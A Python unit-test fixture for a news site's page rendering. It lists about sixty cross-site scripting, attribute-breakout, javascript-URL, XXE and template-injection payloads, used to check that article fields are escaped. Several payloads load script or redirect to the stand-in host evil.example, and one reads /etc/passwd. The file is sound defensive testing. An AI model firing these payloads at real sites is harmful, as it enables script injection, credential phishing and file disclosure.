"""Sixty texts that would become markup, script or a link where a page forgot to escape them, each for one context:
element, attribute (quoted in either way, or not at all), address, comment, raw text, template, entity, encoding."""

from typing import Any

from schemas.parsed_article import Publisher
from schemas.related_headlines import Reason, RelatedHeadlines
from tests.unit.view.example_records import copy, entry, listed, related

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    "</title><svg onload=alert(1)>",
    "</style><svg onload=alert(1)>",
    "</textarea><svg onload=alert(1)>",
    "</noscript><svg onload=alert(1)>",
    "</template><svg onload=alert(1)>",
    "--><svg onload=alert(1)><!--",
    "<!--><img src=x onerror=alert(1)>-->",
    "]]><svg onload=alert(1)><![CDATA[",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><button>x</button></form>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    " onmouseover=alert(1) ",
    "x\tonfocus=alert(1)\ttabindex=0",
    '"/autofocus/onfocus="alert(1)',
    '" style="position:fixed;inset:0;background:url(//evil.example)',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "blob:https://evil.example/1",
    "//evil.example/x",
    "\\\\evil.example\\x",
    'https://news.example/"onmouseover="alert(1)',
    "https://news.example/'><script>alert(1)</script>",
    "https://news.example/#javascript:alert(1)",
    "https://user:javascript@news.example/%3Cscript%3E",
    "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "\ufeff\u2028\u2029\u202e\u0000<b>\ud7ff+ADw-script+AD4-</b>",
)
WEB_ADDRESSES = tuple(text for text in PAYLOADS if text.startswith("https://"))
HARMLESS, HARMLESS_ADDRESS = "A harmless text", "https://news.example/harmless"


def harmless_like(payload: str) -> str:
    """What a page shows in the same form: a text, or a link."""
    return HARMLESS_ADDRESS if payload in WEB_ADDRESSES else HARMLESS


def saying(name: str, text: str) -> RelatedHeadlines:
    """An article that says `text` in each place that the outside fills, and so do its copies and related headlines."""
    said: dict[str, Any] = {
        "headline": text,
        "url": text,
        "canonical_url": text,
        "publisher": Publisher(name=text, domain=text),
        "language": text,
    }
    reasons = [Reason(kind="lexical", terms=[text])]
    echo = copy(f"{name}-echo", **said, reasons=reasons)
    return related(
        name,
        entry(f"{name}-ferry", **said | {"reasons": reasons, "copies": [echo]}),
        listed(text, url=text),
        copies=(echo,),
        **said,
    )
